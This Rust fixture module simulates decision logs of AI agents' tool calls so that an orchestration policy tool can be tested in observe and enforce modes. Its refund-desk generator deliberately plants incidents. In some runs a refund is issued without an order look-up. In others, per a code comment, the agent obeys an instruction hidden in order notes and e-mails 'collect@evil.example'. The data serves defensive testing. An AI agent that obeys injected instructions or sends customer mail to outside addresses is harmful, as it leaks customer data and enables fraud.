//! Recorded traffic for the rollout tools (`orch learn`, `orch replay --template`):
//! decision logs as a host in observe mode writes them, every call with its arguments.
//!
//! - [`simulate`]: runs of an agent that calls only what a template allows, with
//!   arguments from small pools — what any example's traffic looks like;
//! - [`refund_desk`]: a refund desk's week, with the odd run that goes wrong when asked
//!   (a refund without a look-up, an e-mail to a stranger) — the fixture of
//!   docs/rollout.md, and the million-call log of its measurement.
//!
//! Deterministic for a seed (a small xorshift; no clock: each call's time is the seed's).

use orch_agent::audit::{Auditor, DecisionRecord};
use orch_agent::{Mode, Orchestrated, Policy};
use orch_runtime::dynamic::DynMachine;
use orch_runtime::Call;
use std::io::Write;
use std::sync::{Arc, Mutex};

/// A deterministic stream of numbers.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.0 = x;
        x
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
}

/// Writes every record of its runs, as JSON lines, to `out`.
struct Recorder<W: Write + Send> {
    out: Arc<Mutex<W>>,
    /// The first write that failed.
    failed: Arc<Mutex<Option<std::io::Error>>>,
}

impl<W: Write + Send + 'static> Recorder<W> {
    /// An observing policy for run `run` over `tools`, recording to `out`.
    fn policy(&self, run: &str, tools: &[String]) -> Policy {
        let out = Arc::clone(&self.out);
        let failed = Arc::clone(&self.failed);
        let sink = move |r: &DecisionRecord| {
            let mut out = out
                .lock()
                .unwrap_or_else(std::sync::PoisonError::into_inner);
            if let Err(e) = writeln!(out, "{}", r.to_json()) {
                let mut failed = failed
                    .lock()
                    .unwrap_or_else(std::sync::PoisonError::into_inner);
                failed.get_or_insert(e);
            }
        };
        Policy::new(tools.iter().cloned())
            .in_mode(Mode::Observe)
            .audited(Arc::new(Auditor::new(sink, run)))
    }
}

/// Compiles `template` (the tests' own, which compile).
fn machine(template: &str) -> DynMachine {
    orch_codegen::compile_json(template, None)
        .to_machine()
        .expect("the template compiles")
}

/// The `message_contains` values of a template: what its users say.
fn phrases(template: &str) -> Vec<String> {
    fn walk(v: &serde_json::Value, out: &mut Vec<String>) {
        match v {
            serde_json::Value::Object(o) => {
                if o.get("type").and_then(|t| t.as_str()) == Some("message_contains") {
                    if let Some(s) = o.get("value").and_then(|v| v.as_str()) {
                        out.push(s.to_owned());
                    }
                }
                o.values().for_each(|v| walk(v, out));
            }
            serde_json::Value::Array(a) => a.iter().for_each(|v| walk(v, out)),
            _ => {}
        }
    }
    let mut out = Vec::new();
    if let Ok(v) = serde_json::from_str(template) {
        walk(&v, &mut out);
    }
    out
}

/// `runs` runs of an agent under `template` that calls, each turn, one of the tools the
/// template allows now (stopping when none is), up to `calls` calls a run, with
/// arguments from small pools; each run begins with a message saying one of the
/// template's `message_contains` phrases (or none). Recorded in observe mode.
pub fn simulate(template: &str, runs: usize, calls: usize, seed: u64) -> String {
    let machine = machine(template);
    let tools = machine.tools().to_vec();
    let said = phrases(template);
    let recorder = Recorder {
        out: Arc::new(Mutex::new(Vec::new())),
        failed: Arc::default(),
    };
    let mut rng = Rng(seed | 1);
    for r in 0..runs {
        let run = format!("run-{r}");
        let policy = recorder.policy(&run, &tools);
        let mut session = machine.session();
        policy.prepare(&mut session);
        let message = match said.len() {
            0 => "hello".to_owned(),
            n => format!("please {}", said[rng.below(n as u64) as usize]),
        };
        policy.message(&mut session, &message);
        for k in 0..calls {
            let allowed = session.allowed_among(&tools);
            if allowed.is_empty() {
                break;
            }
            let tool = &allowed[rng.below(allowed.len() as u64) as usize];
            let kind = ["a", "b"][rng.below(2) as usize];
            let arguments = serde_json::json!({
                "id": format!("item-{}", rng.below(40)),
                "url": format!("https://www.shop.example/p/{}", rng.below(100)),
                "kind": kind,
            })
            .to_string();
            let at = 1_800_000_000_000 + (r * 1000 + k) as u64 * 1000;
            let call = Call::of_text(tool, &arguments).at(at);
            let _ = policy.admit_call(&mut session, tool, &call);
            policy.record(&mut session, tool);
        }
    }
    let out = recorder
        .out
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
        .clone();
    String::from_utf8(out).expect("JSON is UTF-8")
}

/// The refund desk's tools, as a template with one step that allows them all: what a
/// team records its traffic under before it has rules (observe mode).
pub const REFUND_DESK_BARE: &str = r#"{
  "agentId": "refund-desk",
  "name": "Refund desk (recording)",
  "description": "The refund desk's tools and nothing else: the template its traffic is recorded under, in observe mode, before it has rules.",
  "tools": ["lookup_order", "issue_refund", "send_email"],
  "orchestration": {"steps": [{"name": "Any", "isDefault": true}]}
}"#;

/// `runs` conversations at a refund desk, recorded under [`REFUND_DESK_BARE`] in
/// observe mode, to `out`: questions about an order (look it up, e-mail the customer)
/// and refunds (look it up, refund it, e-mail the customer). With `incidents`, about one
/// run in 12 goes wrong: a refund without a look-up, or an e-mail to an address outside
/// the customers' domain (what a prompt injection asks for).
pub fn refund_desk<W: Write + Send + 'static>(
    out: W,
    runs: usize,
    seed: u64,
    incidents: bool,
) -> std::io::Result<W> {
    let machine = machine(REFUND_DESK_BARE);
    let tools = machine.tools().to_vec();
    let recorder = Recorder {
        out: Arc::new(Mutex::new(out)),
        failed: Arc::default(),
    };
    let mut rng = Rng(seed | 1);
    for r in 0..runs {
        let run = format!("conv-{seed}-{r}");
        let policy = recorder.policy(&run, &tools);
        let mut session = machine.session();
        policy.prepare(&mut session);
        let order = format!("A{}", 1000 + rng.below(9000));
        let customer = format!("customer{}@customers.example", rng.below(500));
        let refund = rng.below(3) == 0;
        let message = match refund {
            true => format!("Please refund order {order}, it arrived broken."),
            false => format!("Where is my order {order}?"),
        };
        policy.message(&mut session, &message);
        let incident = incidents && rng.below(12) == 0;
        let mut calls: Vec<(&str, serde_json::Value)> = Vec::new();
        let lookup = ("lookup_order", serde_json::json!({"order_id": order}));
        let email_to = |to: &str| {
            (
                "send_email",
                serde_json::json!({"to": to, "subject": format!("Your order {order}")}),
            )
        };
        match (refund, incident) {
            (true, true) => {
                // Refunded on the customer's word: no look-up first.
                let amount = (5 + rng.below(495)) as f64 + 0.99;
                calls.push((
                    "issue_refund",
                    serde_json::json!({"order_id": order, "amount": amount, "currency": "EUR"}),
                ));
                calls.push(email_to(&customer));
            }
            (true, false) => {
                let amount = (5 + rng.below(495)) as f64 + 0.99;
                calls.push(lookup.clone());
                calls.push((
                    "issue_refund",
                    serde_json::json!({"order_id": order, "amount": amount, "currency": "EUR"}),
                ));
                calls.push(email_to(&customer));
            }
            (false, true) => {
                // An instruction hidden in the order's notes, obeyed.
                calls.push(lookup.clone());
                calls.push(email_to("collect@evil.example"));
            }
            (false, false) => {
                calls.push(lookup.clone());
                calls.push(email_to(&customer));
            }
        }
        for (k, (tool, arguments)) in calls.iter().enumerate() {
            let arguments = arguments.to_string();
            let at = 1_800_000_000_000 + seed * 1_000_000_000 + (r * 16 + k) as u64 * 1000;
            let call = Call::of_text(tool, &arguments).at(at);
            let _ = policy.admit_call(&mut session, tool, &call);
            policy.record(&mut session, tool);
        }
    }
    if let Some(e) = recorder
        .failed
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
        .take()
    {
        return Err(e);
    }
    match Arc::try_unwrap(recorder.out) {
        Ok(out) => Ok(out
            .into_inner()
            .unwrap_or_else(std::sync::PoisonError::into_inner)),
        Err(_) => Err(std::io::Error::other(
            "a run's policy outlived the recording",
        )),
    }
}

/// The log an enforcing host under `template` would have written had its agent made
/// the calls of `observed` (a log in observe mode): each call judged and, when refused,
/// not run — its tool not recorded. The records are numbered per run.
pub fn enforce_log(template: &str, observed: &str) -> String {
    use orch_agent::audit::AuditEvent;
    let machine = machine(template);
    let out: Arc<Mutex<Vec<u8>>> = Arc::default();
    let mut runs: std::collections::HashMap<String, (orch_runtime::DynSession<'_>, Policy, bool)> =
        std::collections::HashMap::new();
    for line in observed.lines().filter(|l| !l.trim().is_empty()) {
        let record: DecisionRecord = serde_json::from_str(line).expect("a decision record");
        let (session, policy, admitted) = runs.entry(record.run.clone()).or_insert_with(|| {
            let sink = Arc::clone(&out);
            let write = move |r: &DecisionRecord| {
                let mut out = sink
                    .lock()
                    .unwrap_or_else(std::sync::PoisonError::into_inner);
                let _ = writeln!(out, "{}", r.to_json());
            };
            let policy = Policy::new(machine.tools().iter().cloned())
                .audited(Arc::new(Auditor::new(write, record.run.clone())));
            (machine.session(), policy, false)
        });
        match &record.event {
            AuditEvent::Tools { .. } => policy.prepare(session),
            AuditEvent::Message { text } => policy.message(session, text),
            AuditEvent::Call {
                tool,
                call,
                arguments,
                at,
            } => {
                let mut checked = Call::new(*call, arguments.as_deref().unwrap_or(""));
                checked.at = *at;
                *admitted = policy.admit_call(session, tool, &checked).is_ok();
            }
            AuditEvent::Record { tool, .. } if *admitted => {
                policy.record(session, tool);
            }
            _ => {}
        }
    }
    drop(runs);
    let out = out
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
        .clone();
    String::from_utf8(out).expect("JSON is UTF-8")
}
